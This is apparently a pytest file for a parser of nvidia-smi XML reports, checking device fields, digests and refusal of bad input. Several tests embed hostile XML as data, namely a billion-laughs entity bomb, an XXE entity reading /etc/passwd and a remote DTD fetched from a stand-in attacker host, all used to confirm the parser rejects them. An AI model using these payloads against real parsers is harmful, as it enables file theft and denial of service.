"""Tests for provenance.statements.inspection: parsing recorded `nvidia-smi -q -x` output.

The samples under tests/data/nvidia-smi/ are real recordings published in public
repositories (see the README there); the expected values below were read from
those files. The one exception is the H100 file, marked SYNTHETIC in its name:
no recorded H100 `-q -x` output was found, so it was written from the values of
a real H100 host's `nvidia-smi -q` (the README says how).
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
import re
from pathlib import Path
from xml.etree import ElementTree
from xml.sax.saxutils import escape

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from provenance.errors import InputError
from provenance.statements.inspection import (
    MAX_SMI_BYTES,
    NO_VALUE_MARKERS,
    ObservedDevice,
    SmiReport,
    normalise_pci_device_id,
    parse_nvidia_smi,
    read_nvidia_smi,
)

DATA = Path(__file__).parents[1] / "data" / "nvidia-smi"

A100 = "a100-sxm4-80gb-mig-driver-535.xml"
K80 = "tesla-k80-x4-azure-driver-430.xml"
GTX1050 = "geforce-gtx-1050-windows-driver-436.xml"
K520 = "grid-k520-driver-352.xml"
K520_DTD = "grid-k520-driver-352-with-dtd.xml"
H100 = "h100-sxm5-x8-driver-565-SYNTHETIC.xml"
SAMPLES = (A100, K80, GTX1050, K520, K520_DTD, H100)


def sample(name: str) -> bytes:
    return (DATA / name).read_bytes()


def parse(name: str) -> SmiReport:
    return parse_nvidia_smi(sample(name), source=name)


# What each recorded file says, read from the files themselves.
EXPECTED: dict[str, dict[str, object]] = {
    A100: {
        "driver_version": "535.54.03",
        "cuda_version": "12.2",
        "timestamp": "Fri Aug  4 11:44:30 2023",
        "attached_gpus": 4,
        "product_names": ["NVIDIA A100-SXM4-80GB"],
        "pci_device_ids": ["0x20B210DE"],
        "serials": ["1650522003820"],
        "uuids": ["GPU-513536b6-7d19-9063-b049-1e69664bb298"],
        "board_part_numbers": ["692-2G506-0212-002"],
        "bus_ids": ["00000000:01:00.0"],
    },
    K80: {
        "driver_version": "430.26",
        "cuda_version": None,  # printed as "Not Found"
        "timestamp": "Tue Dec  3 05:27:00 2019",
        "attached_gpus": 4,
        "product_names": ["Tesla K80"] * 4,
        "pci_device_ids": ["0x102D10DE"] * 4,
        # A K80 board carries two GPUs that report the board's serial.
        "serials": ["0322416026235", "0322116081614", "0322116081614", "0322416026235"],
        "uuids": [
            "GPU-c3b26f7a-8dcb-619c-fa1b-8029265a4db0",
            "GPU-b01b80eb-0f18-1df0-cf88-0725bd90f1e1",
            "GPU-30bc2701-3bc2-5f35-0ebd-9867a077e138",
            "GPU-3341aba2-f01d-2c1f-7dd4-e389779faec2",
        ],
        "board_part_numbers": [None] * 4,
        "bus_ids": [
            "00001580:00:00.0",
            "00002DF7:00:00.0",
            "00004968:00:00.0",
            "0000F8D6:00:00.0",
        ],
    },
    GTX1050: {
        "driver_version": "436.48",
        "cuda_version": "10.1",
        "timestamp": "Mon Dec 07 16:35:19 2020",
        "attached_gpus": 1,
        "product_names": ["GeForce GTX 1050"],
        "pci_device_ids": ["0x1C8D10DE"],
        "serials": [None],  # printed as N/A
        "uuids": ["GPU-a9685d8a-fbf2-7465-ee1f-307141ef06a8"],
        "board_part_numbers": [None],
        "bus_ids": ["00000000:01:00.0"],
    },
    K520: {
        "driver_version": "352.99",
        "cuda_version": None,  # drivers of 2017 print no <cuda_version>
        "timestamp": "Sat Feb 11 23:31:58 2017",
        "attached_gpus": 1,
        "product_names": ["GRID K520"],
        "pci_device_ids": ["0x118A10DE"],
        "serials": ["0321014026924"],
        "uuids": ["GPU-cc96d6f4-7f66-e1fc-8179-a45dbd47664c"],
        "board_part_numbers": [None],
        "bus_ids": ["0000:00:03.0"],
    },
    K520_DTD: {
        "driver_version": "352.99",
        "cuda_version": None,
        "timestamp": "Sat Feb 11 23:35:08 2017",
        "attached_gpus": 1,
        "product_names": ["GRID K520"],
        "pci_device_ids": ["0x118A10DE"],
        "serials": ["0321014026924"],
        "uuids": ["GPU-cc96d6f4-7f66-e1fc-8179-a45dbd47664c"],
        "board_part_numbers": [None],
        "bus_ids": ["0000:00:03.0"],
    },
    H100: {
        "driver_version": "565.57.01",
        "cuda_version": "12.7",
        "timestamp": "Thu Nov 14 07:00:14 2024",
        "attached_gpus": 8,
        "product_names": ["NVIDIA H100 80GB HBM3"] * 8,
        "pci_device_ids": ["0x233010DE"] * 8,
        "serials": [
            "1654423001593",
            "1654223054577",
            "1654423003947",
            "1654223056472",
            "1654423003267",
            "1654323021387",
            "1654423003872",
            "1654223055370",
        ],
        "uuids": [
            "GPU-b42dd28e-ffdd-8720-1df0-98bd8cdc05b1",
            "GPU-7c3cadbd-17e5-0913-f69b-c618122ea0cd",
            "GPU-2d50cdf6-dd67-9f2e-855e-0d4d6d395a2f",
            "GPU-d1838e76-90e6-4408-711d-aeeaa2e1fd14",
            "GPU-72be6e5d-3c1b-0d37-98ac-d3ef159f2589",
            "GPU-52378fbc-3124-3895-13b6-1dd179563e0f",
            "GPU-83a5aebb-b71c-c570-aa83-185e1233fe97",
            "GPU-33135771-a848-ece1-b61e-489e221d663c",
        ],
        "board_part_numbers": ["692-2G520-0200-000"] * 8,
        "bus_ids": [
            f"00000000:{bus}:00.0" for bus in ("18", "2A", "3A", "5D", "9A", "AB", "BA", "DB")
        ],
    },
}


# --- the recorded samples ----------------------------------------------------


@pytest.mark.parametrize("name", SAMPLES)
def test_sample_parses_with_the_recorded_values(name: str) -> None:
    report = parse(name)
    want = EXPECTED[name]
    assert report.driver_version == want["driver_version"]
    assert report.cuda_version == want["cuda_version"]
    assert report.timestamp == want["timestamp"]
    assert report.attached_gpus == want["attached_gpus"]
    devices = report.devices
    assert len(devices) == len(want["product_names"])  # type: ignore[arg-type]
    assert [d.product_name for d in devices] == want["product_names"]
    assert [d.pci_device_id for d in devices] == want["pci_device_ids"]
    assert [d.serial for d in devices] == want["serials"]
    assert [d.uuid for d in devices] == want["uuids"]
    assert [d.board_part_number for d in devices] == want["board_part_numbers"]
    assert [d.bus_id for d in devices] == want["bus_ids"]
    assert [d.index for d in devices] == list(range(len(devices)))


@pytest.mark.parametrize("name", SAMPLES)
def test_digest_is_sha256_of_the_raw_bytes(name: str) -> None:
    data = sample(name)
    report = parse_nvidia_smi(data, source=name)
    assert report.digest == hashlib.sha256(data).hexdigest()
    assert report.digest == report.digest.lower()
    assert len(report.digest) == 64


def test_sample_files_are_the_recorded_bytes() -> None:
    # Pinned so that an accidental edit (an editor adding a newline, git
    # changing line endings) shows up here and not as a puzzling digest.
    assert {name: hashlib.sha256(sample(name)).hexdigest() for name in SAMPLES} == {
        A100: "6eeba22e13ac4203ae5ab71a6e72fc1ee1e585ed1ef8fbe6ab493a222e3b2b74",
        K80: "7e730a4701487d6cce8730f31bc80bad57da50b3dedd02811cdcc90a5778588b",
        GTX1050: "7b2e0ddab09bee9ef23f514b759a87b5764787659b5a1318b37321f356655299",
        K520: "108329adc4963f312c9a95fffd0be5ab518e59efd609b132b8530197d1c2d677",
        K520_DTD: "fe5769766a604054c685c4f4f257946d297104aade474d63735e1f5d287d877a",
        H100: "4fad083bd0ac2f3d0f231a867f6427f18014f71d0b9532cb60a3440e27651a77",
    }


def test_consumer_card_prints_na_serial_which_becomes_none() -> None:
    data = sample(GTX1050)
    assert b"<serial>N/A</serial>" in data
    (device,) = parse(GTX1050).devices
    assert device.serial is None
    assert device.gpu_part_number is None  # also N/A
    assert device.product_brand == "GeForce"
    assert device.pci_sub_system_id == "0x11C81462"  # the board maker's id, not NVIDIA's
    assert device.memory_total_mib == 2048


def test_datacenter_a100_details() -> None:
    report = parse(A100)
    (device,) = report.devices
    assert device.product_brand == "NVIDIA"
    assert device.product_architecture == "Ampere"
    assert device.vbios_version == "92.00.36.00.02"
    assert device.gpu_part_number == "20B2-895-A1"
    assert device.pci_sub_system_id == "0x147F10DE"
    assert device.memory_total_mib == 81920  # the GPU's, not a MIG slice's 19968
    assert device.mig_mode == "Enabled"
    assert device.multigpu_board is False
    # The published file lists one <gpu> of the four it says are attached.
    assert report.attached_gpus == 4
    assert report.complete is False


def test_multi_gpu_server_lists_every_gpu_in_file_order() -> None:
    report = parse(K80)
    assert report.complete is True
    assert len({d.uuid for d in report.devices}) == 4
    # Serials are per board: the two GPUs of a K80 share one, so a serial is
    # not a per-GPU identity (and multigpu_board says No under pass-through).
    assert len({d.serial for d in report.devices}) == 2
    assert {d.multigpu_board for d in report.devices} == {False}
    assert {d.gpu_part_number for d in report.devices} == {"900-22080-0300-000"}
    assert {d.memory_total_mib for d in report.devices} == {11441}


def test_embedded_dtd_from_the_dtd_option_is_accepted() -> None:
    # `nvidia-smi -q -x --dtd` embeds an internal DTD (element declarations only).
    with_dtd = sample(K520_DTD)
    assert b"<!ELEMENT nvidia_smi_log" in with_dtd
    assert b"<!ENTITY" not in with_dtd
    assert parse(K520_DTD).devices == parse(K520).devices


def test_old_driver_without_cuda_version_or_board_part_number() -> None:
    data = sample(K520)
    assert b"<cuda_version>" not in data and b"<board_part_number>" not in data
    report = parse(K520)
    assert report.cuda_version is None
    assert report.devices[0].board_part_number is None
    assert report.devices[0].product_architecture is None


@pytest.mark.parametrize("name", SAMPLES)
def test_to_json_is_json_ready_and_complete(name: str) -> None:
    report = parse(name)
    as_json = report.to_json()
    assert json.loads(json.dumps(as_json)) == as_json
    assert as_json["digest"] == report.digest
    devices = as_json["devices"]
    assert isinstance(devices, list)
    assert devices == [d.to_json() for d in report.devices]
    field_names = {f.name for f in dataclasses.fields(ObservedDevice)}
    assert all(set(d) == field_names | {"device_id", "vendor_id"} for d in devices)


def test_h100_host_lists_eight_hopper_gpus() -> None:
    report = parse(H100)
    assert report.complete is True
    assert len(report.devices) == 8
    assert len({d.serial for d in report.devices}) == 8  # SXM5 modules: one serial per GPU
    assert {d.device_id for d in report.devices} == {"0x2330"}
    assert {d.vendor_id for d in report.devices} == {"0x10DE"}
    assert {d.pci_sub_system_id for d in report.devices} == {"0x16C110DE"}
    assert {d.gpu_part_number for d in report.devices} == {"2330-885-A1"}
    assert {d.product_architecture for d in report.devices} == {"Hopper"}
    assert {d.memory_total_mib for d in report.devices} == {81559}
    assert {d.mig_mode for d in report.devices} == {"Disabled"}


@pytest.mark.parametrize(
    ("name", "device_id", "vendor_id"),
    [(A100, "0x20B2", "0x10DE"), (K80, "0x102D", "0x10DE"), (GTX1050, "0x1C8D", "0x10DE")],
)
def test_device_and_vendor_parts_of_the_pci_id(name: str, device_id: str, vendor_id: str) -> None:
    device = parse(name).devices[0]
    assert (device.device_id, device.vendor_id) == (device_id, vendor_id)
    assert device.pci_device_id == device_id + vendor_id[2:]
    as_json = device.to_json()
    assert (as_json["device_id"], as_json["vendor_id"]) == (device_id, vendor_id)


def test_device_without_pci_id_has_no_parts() -> None:
    data = (
        b"<nvidia_smi_log><gpu><product_name>NVIDIA H100 80GB HBM3</product_name>"
        b"<pci><pci_device_id>N/A</pci_device_id></pci></gpu></nvidia_smi_log>"
    )
    (device,) = parse_nvidia_smi(data).devices
    assert (device.pci_device_id, device.device_id, device.vendor_id) == (None, None, None)


def test_reports_are_frozen() -> None:
    report = parse(K520)
    with pytest.raises(dataclasses.FrozenInstanceError):
        report.digest = "0" * 64  # type: ignore[misc]
    with pytest.raises(dataclasses.FrozenInstanceError):
        report.devices[0].serial = "relabelled"  # type: ignore[misc]


# --- encodings and line endings seen in the field ----------------------------


@pytest.mark.parametrize(
    ("label", "transform"),
    [
        ("utf-16 with BOM (PowerShell redirect)", lambda b: b.decode().encode("utf-16")),
        ("utf-8 with BOM", lambda b: b"\xef\xbb\xbf" + b),
        ("CRLF line endings", lambda b: b.replace(b"\n", b"\r\n")),
    ],
)
def test_transcoded_sample_gives_the_same_devices(label: str, transform: object) -> None:
    assert callable(transform)
    original = sample(K80)
    data = transform(original)
    assert data != original, label
    report = parse_nvidia_smi(data, source=label)
    assert report.devices == parse(K80).devices
    assert report.digest == hashlib.sha256(data).hexdigest()


# --- what is refused, and how it is said --------------------------------------


def test_not_xml_is_refused() -> None:
    with pytest.raises(
        InputError,
        match=r"^evidence\.txt is not nvidia-smi -q -x output: not well-formed XML",
    ):
        parse_nvidia_smi(b"this is not XML at all\n", source="evidence.txt")


def test_human_readable_nvidia_smi_q_is_refused() -> None:
    text = (
        b"==============NVSMI LOG==============\n\n"
        b"Timestamp                                 : Thu Nov 14 07:00:14 2024\n"
        b"Driver Version                            : 565.57.01\n"
    )
    with pytest.raises(InputError, match=r"not nvidia-smi -q -x output: not well-formed XML"):
        parse_nvidia_smi(text, source="q.txt")


@pytest.mark.parametrize("data", [b"", b"  \n\t\r\n"])
def test_empty_input_is_refused(data: bytes) -> None:
    with pytest.raises(InputError, match=r"^empty\.xml is not nvidia-smi -q -x output: .*empty"):
        parse_nvidia_smi(data, source="empty.xml")


def test_html_page_is_refused() -> None:
    # A download that went wrong: an error page saved under the evidence's name.
    page = (
        b"<!DOCTYPE html>\n<html lang='en'><head><meta charset='utf-8'><title>404</title></head>"
        b"<body><p>Not Found<br></p></body></html>\n"
    )
    with pytest.raises(
        InputError, match=r"^smi\.xml is not nvidia-smi -q -x output: not well-formed XML"
    ):
        parse_nvidia_smi(page, source="smi.xml")


def test_xhtml_page_is_refused_by_its_root() -> None:
    page = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<html xmlns="http://www.w3.org/1999/xhtml"><head><title>GPU report</title></head>'
        b"<body><p>NVIDIA H100 80GB HBM3</p></body></html>\n"
    )
    with pytest.raises(
        InputError,
        match=r"^smi\.xml is not nvidia-smi -q -x output: "
        r"root element is <\{http://www\.w3\.org/1999/xhtml\}html>, want <nvidia_smi_log>$",
    ):
        parse_nvidia_smi(page, source="smi.xml")


@pytest.mark.parametrize("name", [K520, K80, H100])
@pytest.mark.parametrize("fraction", [0.01, 0.25, 0.5, 0.9, 0.999])
def test_truncated_sample_is_refused(name: str, fraction: float) -> None:
    # An interrupted copy or a capture cut short by a full disk.
    data = sample(name)
    cut = data[: int(len(data) * fraction)]
    with pytest.raises(
        InputError, match=r"^cut\.xml is not nvidia-smi -q -x output: not well-formed XML"
    ):
        parse_nvidia_smi(cut, source="cut.xml")


def test_file_cut_after_the_root_closes_is_not_truncated() -> None:
    data = sample(K520)
    assert data.endswith(b"</nvidia_smi_log>\n")
    assert parse_nvidia_smi(data[:-1]).devices == parse(K520).devices


def test_concatenated_logs_are_refused() -> None:
    # `nvidia-smi -q -x -l 5 > file` appends one document per interval.
    data = sample(K520) + sample(K520)
    with pytest.raises(
        InputError, match=r"^loop\.xml is not nvidia-smi -q -x output: not well-formed XML \(junk"
    ):
        parse_nvidia_smi(data, source="loop.xml")


def test_wrong_root_is_refused() -> None:
    with pytest.raises(
        InputError,
        match=r"^evidence\.xml is not nvidia-smi -q -x output: "
        r"root element is <foo>, want <nvidia_smi_log>$",
    ):
        parse_nvidia_smi(b"<?xml version='1.0'?><foo><gpu/></foo>", source="evidence.xml")


def test_namespaced_root_is_refused() -> None:
    data = (
        b'<nvidia_smi_log xmlns="urn:x"><gpu><product_name>X</product_name></gpu></nvidia_smi_log>'
    )
    with pytest.raises(InputError, match=r"root element is <\{urn:x\}nvidia_smi_log>"):
        parse_nvidia_smi(data, source="ns.xml")


def test_log_without_gpus_is_refused() -> None:
    data = (
        b'<?xml version="1.0" ?>\n<nvidia_smi_log>\n\t<driver_version>550.54.15</driver_version>\n'
        b"\t<attached_gpus>0</attached_gpus>\n</nvidia_smi_log>\n"
    )
    with pytest.raises(
        InputError,
        match=r"^host7\.xml is not nvidia-smi -q -x output: "
        r"it lists no <gpu> elements \(<attached_gpus> says 0\)$",
    ):
        parse_nvidia_smi(data, source="host7.xml")


def test_gpu_without_product_name_is_refused() -> None:
    data = sample(K520).replace(b"\t\t<product_name>GRID K520</product_name>\n", b"")
    assert data != sample(K520)
    with pytest.raises(
        InputError,
        match=r"^k520\.xml is not nvidia-smi -q -x output: "
        r"<gpu> #0 \(bus 0000:00:03\.0\) has no <product_name>$",
    ):
        parse_nvidia_smi(data, source="k520.xml")


def test_gpu_with_na_product_name_is_refused() -> None:
    data = sample(K80).replace(
        b"<product_name>Tesla K80</product_name>", b"<product_name>N/A</product_name>", 1
    )
    with pytest.raises(
        InputError, match=r"<gpu> #0 \(bus 00001580:00:00\.0\) has no <product_name>"
    ):
        parse_nvidia_smi(data, source="k80.xml")


def test_malformed_pci_device_id_is_refused() -> None:
    data = sample(K520).replace(b"118A10DE", b"118A10DZ")
    with pytest.raises(
        InputError,
        match=r"^k520\.xml: <gpu> #0 \(bus 0000:00:03\.0\) has a malformed PCI id '118A10DZ'",
    ):
        parse_nvidia_smi(data, source="k520.xml")


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE nvidia_smi_log [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<nvidia_smi_log><gpu><product_name>&lol9;</product_name></gpu></nvidia_smi_log>
"""


def test_billion_laughs_is_refused() -> None:
    with pytest.raises(
        InputError,
        match=r"^laughs\.xml is refused: its DTD declares the entity 'lol' "
        r"\(entity expansion or external entity\)",
    ):
        parse_nvidia_smi(BILLION_LAUGHS, source="laughs.xml")


def test_external_entity_is_refused() -> None:
    data = (
        sample(K520)
        .replace(
            b'<!DOCTYPE nvidia_smi_log SYSTEM "nvsmi_device_v7.dtd">',
            b'<!DOCTYPE nvidia_smi_log [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        )
        .replace(b"<serial>0321014026924</serial>", b"<serial>&xxe;</serial>")
    )
    assert b"&xxe;" in data
    with pytest.raises(
        InputError, match=r"^xxe\.xml is refused: its DTD declares the entity 'xxe'"
    ):
        parse_nvidia_smi(data, source="xxe.xml")


def test_external_parameter_entity_is_refused() -> None:
    data = (
        b'<?xml version="1.0"?>\n<!DOCTYPE nvidia_smi_log [\n'
        b'  <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd">\n  %remote;\n]>\n'
        b"<nvidia_smi_log><gpu><product_name>X</product_name></gpu></nvidia_smi_log>"
    )
    with pytest.raises(
        InputError, match=r"^oob\.xml is refused: its DTD declares the entity 'remote'"
    ):
        parse_nvidia_smi(data, source="oob.xml")


def test_external_dtd_is_never_fetched() -> None:
    # Real files name nvsmi_device_vN.dtd; it is not loaded, so an entity it
    # might define stays undefined and the file is not well-formed.
    data = (
        b'<?xml version="1.0"?>\n<!DOCTYPE nvidia_smi_log SYSTEM "http://attacker.invalid/x.dtd">\n'
        b"<nvidia_smi_log><gpu><product_name>&name;</product_name></gpu></nvidia_smi_log>"
    )
    with pytest.raises(
        InputError,
        match=r"^remote\.xml is not nvidia-smi -q -x output: "
        r"not well-formed XML \(undefined entity",
    ):
        parse_nvidia_smi(data, source="remote.xml")


def test_deeply_nested_input_is_handled() -> None:
    depth = 200_000
    data = b"<nvidia_smi_log>" + b"<gpu>" * depth + b"</gpu>" * depth + b"</nvidia_smi_log>"
    with pytest.raises(InputError, match=r"<gpu> #0 has no <product_name>$"):
        parse_nvidia_smi(data, source="deep.xml")


def test_oversized_input_is_refused() -> None:
    data = sample(K520) + b" " * (MAX_SMI_BYTES + 1 - len(sample(K520)))
    assert len(data) == MAX_SMI_BYTES + 1
    with pytest.raises(
        InputError,
        match=rf"^big\.xml is too large to be nvidia-smi -q -x output: {MAX_SMI_BYTES + 1} bytes, "
        rf"the limit is {MAX_SMI_BYTES} bytes",
    ):
        parse_nvidia_smi(data, source="big.xml")


def test_input_at_the_size_limit_is_parsed() -> None:
    data = sample(K520) + b"\n" * (MAX_SMI_BYTES - len(sample(K520)))
    assert len(data) == MAX_SMI_BYTES
    assert parse_nvidia_smi(data).devices == parse(K520).devices


def test_read_nvidia_smi_reads_and_names_the_file(tmp_path: Path) -> None:
    path = tmp_path / "host1.xml"
    path.write_bytes(sample(H100))
    report = read_nvidia_smi(path)
    assert report == parse(H100)
    assert read_nvidia_smi(str(path)) == report
    path.write_bytes(b"<foo/>")
    with pytest.raises(InputError, match=rf"^{re.escape(str(path))} is not nvidia-smi -q -x"):
        read_nvidia_smi(path)


def test_read_nvidia_smi_missing_file_or_directory(tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"nope\.xml: no such file$") as caught:
        read_nvidia_smi(tmp_path / "nope.xml")
    assert caught.value.exit_code == 2
    with pytest.raises(InputError, match=r"is a directory, not an nvidia-smi -q -x file$"):
        read_nvidia_smi(tmp_path)


def test_read_nvidia_smi_refuses_a_huge_file_without_loading_it(tmp_path: Path) -> None:
    path = tmp_path / "huge.xml"
    with path.open("wb") as handle:
        handle.truncate(5 * 1024**3)  # sparse: 5 GiB on paper, nothing on disk
    with pytest.raises(
        InputError,
        match=rf"huge\.xml is too large to be nvidia-smi -q -x output: {5 * 1024**3} bytes, ",
    ):
        read_nvidia_smi(path)


def test_unsupported_encoding_is_refused() -> None:
    for declared in (b"bogus", b"utf-32"):
        data = b'<?xml version="1.0" encoding="' + declared + b'"?><nvidia_smi_log/>'
        with pytest.raises(
            InputError, match=r"^enc\.xml is not nvidia-smi -q -x output: its character encoding"
        ):
            parse_nvidia_smi(data, source="enc.xml")


def test_text_instead_of_bytes_is_refused() -> None:
    with pytest.raises(InputError, match=r"^s\.xml: nvidia-smi output must be bytes, not str$"):
        parse_nvidia_smi("<nvidia_smi_log/>", source="s.xml")  # type: ignore[arg-type]


def test_errors_carry_a_hint_and_exit_code_2() -> None:
    with pytest.raises(InputError) as caught:
        parse_nvidia_smi(b"<foo/>", source="x.xml")
    assert caught.value.exit_code == 2
    assert caught.value.hint is not None and "nvidia-smi -q -x" in caught.value.hint
    assert caught.value.__cause__ is None


# --- values --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "want"),
    [
        ("0x233010DE", "0x233010DE"),
        ("233010de", "0x233010DE"),
        ("0X20b210de", "0x20B210DE"),
        (" 0x102D10DE\n", "0x102D10DE"),
    ],
)
def test_normalise_pci_device_id(given: str, want: str) -> None:
    assert normalise_pci_device_id(given) == want


@pytest.mark.parametrize(
    "given", ["", "0x2330", "0x233010DEAD", "N/A", "0x2330 10DE", "0x٢٣٣٠10DE"]
)
def test_normalise_pci_device_id_refuses(given: str) -> None:
    with pytest.raises(InputError, match="is not a PCI device id"):
        normalise_pci_device_id(given)


@pytest.mark.parametrize(
    "marker",
    [
        "N/A",
        "[N/A]",
        "Not Found",
        "[Not Supported]",
        "Unknown Error",
        "Requested functionality has been deprecated",
        "",
    ],
)
def test_no_value_markers_become_none(marker: str) -> None:
    data = (
        "<nvidia_smi_log><cuda_version>{m}</cuda_version><gpu id='00000000:18:00.0'>"
        "<product_name>NVIDIA H100 80GB HBM3</product_name><serial>{m}</serial><uuid>{m}</uuid>"
        "<board_part_number>{m}</board_part_number><pci><pci_device_id>{m}</pci_device_id></pci>"
        "</gpu></nvidia_smi_log>"
    ).format(m=escape(marker))
    report = parse_nvidia_smi(data.encode(), source="m.xml")
    (device,) = report.devices
    assert report.cuda_version is None
    assert (device.serial, device.uuid, device.board_part_number, device.pci_device_id) == (
        None,
    ) * 4
    assert device.bus_id == "00000000:18:00.0"  # falls back to the id attribute


# --- properties ----------------------------------------------------------------

_TOKENS = [
    b"<",
    b">",
    b"</gpu>",
    b"<gpu>",
    b"&",
    b"&lol;",
    b"<!DOCTYPE x [<!ENTITY a 'b'>]>",
    b"<!ENTITY",
    b"]]>",
    b"<![CDATA[",
    b"N/A",
    b"\x00",
    b"\xff\xfe",
    b"\xef\xbb\xbf",
    b'encoding="utf-16"',
    b"<product_name>",
    b"</product_name>",
]


def _outcome(data: bytes) -> SmiReport | InputError:
    try:
        return parse_nvidia_smi(data, source="fuzz.xml")
    except InputError as exc:
        assert exc.message.startswith("fuzz.xml")
        return exc


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=4096))
def test_arbitrary_bytes_parse_or_raise_input_error(data: bytes) -> None:
    _outcome(data)


@st.composite
def mutated_sample(draw: st.DrawFn) -> bytes:
    data = bytearray(sample(draw(st.sampled_from([GTX1050, K520, K520_DTD, H100]))))
    for _ in range(draw(st.integers(min_value=1, max_value=8))):
        at = draw(st.integers(min_value=0, max_value=len(data)))
        operation = draw(st.sampled_from(["flip", "delete", "insert", "token", "truncate"]))
        if operation == "flip" and at < len(data):
            data[at] = draw(st.integers(min_value=0, max_value=255))
        elif operation == "delete":
            del data[at : at + draw(st.integers(min_value=1, max_value=64))]
        elif operation == "insert":
            data[at:at] = draw(st.binary(min_size=1, max_size=16))
        elif operation == "token":
            data[at:at] = draw(st.sampled_from(_TOKENS))
        else:
            del data[at:]
    return bytes(data)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mutated_sample())
def test_mutated_samples_parse_or_raise_input_error(data: bytes) -> None:
    outcome = _outcome(data)
    if isinstance(outcome, SmiReport):
        assert outcome.digest == hashlib.sha256(data).hexdigest()
        assert all(d.product_name for d in outcome.devices)


_xml_text = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc", "Cn", "Co")), max_size=40
)


@settings(max_examples=200, deadline=None)
@given(product=_xml_text, serial=_xml_text, part=_xml_text)
def test_values_are_kept_as_printed(product: str, serial: str, part: str) -> None:
    data = (
        "<?xml version='1.0' ?><nvidia_smi_log><gpu id='00000000:01:00.0'>"
        f"<product_name>{escape(product)}</product_name><serial>{escape(serial)}</serial>"
        f"<board_part_number>{escape(part)}</board_part_number></gpu></nvidia_smi_log>"
    ).encode()
    outcome = _outcome(data)
    markers = NO_VALUE_MARKERS
    if product.strip().lower() in markers:
        assert isinstance(outcome, InputError)
        return
    assert isinstance(outcome, SmiReport)
    (device,) = outcome.devices
    assert device.product_name == product.strip()
    if serial.strip().lower() not in markers:
        assert device.serial == serial.strip()
    if part.strip().lower() not in markers:
        assert device.board_part_number == part.strip()


# Logs shaped like nvidia-smi output, with arbitrary text in the places the
# parser reads and arbitrary nesting around them: whatever comes out is a
# report or an InputError, and a report keeps its promises.
_TAGS = [
    "gpu",
    "product_name",
    "serial",
    "uuid",
    "pci",
    "pci_device_id",
    "pci_bus_id",
    "pci_sub_system_id",
    "board_part_number",
    "attached_gpus",
    "driver_version",
    "fb_memory_usage",
    "total",
    "mig_mode",
    "current_mig",
    "multigpu_board",
]
_leaf_text = st.one_of(
    _xml_text,
    st.sampled_from(["N/A", "233010DE", "0x233010DE", "81559 MiB", "Yes", "No", "8", "-1"]),
).map(escape)


def _leaf(tag: str) -> st.SearchStrategy[str]:
    return _leaf_text.map(lambda text: f"<{tag}>{text}</{tag}>")


def _element(children: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    return st.builds(
        lambda tag, body: f"<{tag}>{body}</{tag}>",
        st.sampled_from(_TAGS),
        st.lists(children, max_size=4).map("".join),
    )


_noise = st.recursive(st.sampled_from(_TAGS).flatmap(_leaf), _element, max_leaves=12)
_gpu_parts = st.one_of(
    st.sampled_from(["product_name", "serial", "uuid", "board_part_number"]).flatmap(_leaf),
    st.lists(
        st.sampled_from(["pci_device_id", "pci_bus_id", "pci_sub_system_id"]).flatmap(_leaf),
        max_size=3,
    ).map(lambda parts: "<pci>" + "".join(parts) + "</pci>"),
    _leaf("total").map(lambda total: f"<fb_memory_usage>{total}</fb_memory_usage>"),
    _noise,
)
_gpu = st.builds(
    lambda attr, name, parts: f"<gpu{attr}>{name}{''.join(parts)}</gpu>",
    st.sampled_from(["", ' id="00000000:01:00.0"', ' id="N/A"']),
    st.one_of(st.just(""), _leaf("product_name"), st.just("<product_name>H100</product_name>")),
    st.lists(_gpu_parts, max_size=6),
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.one_of(_gpu, _noise), max_size=5).map("".join))
def test_generated_logs_parse_or_raise_input_error(body: str) -> None:
    data = f"<?xml version='1.0' ?><nvidia_smi_log>{body}</nvidia_smi_log>".encode()
    outcome = _outcome(data)
    if isinstance(outcome, SmiReport):
        # Our own generated, entity-free XML: the standard parser is safe to use here.
        root = ElementTree.fromstring(data)  # noqa: S314
        assert len(outcome.devices) == len(root.findall("gpu"))
        for device in outcome.devices:
            assert device.product_name and device.product_name == device.product_name.strip()
            if device.pci_device_id is not None:
                assert re.fullmatch(r"0x[0-9A-F]{8}", device.pci_device_id)
                assert device.device_id is not None and device.vendor_id is not None
        assert json.loads(json.dumps(outcome.to_json())) == outcome.to_json()
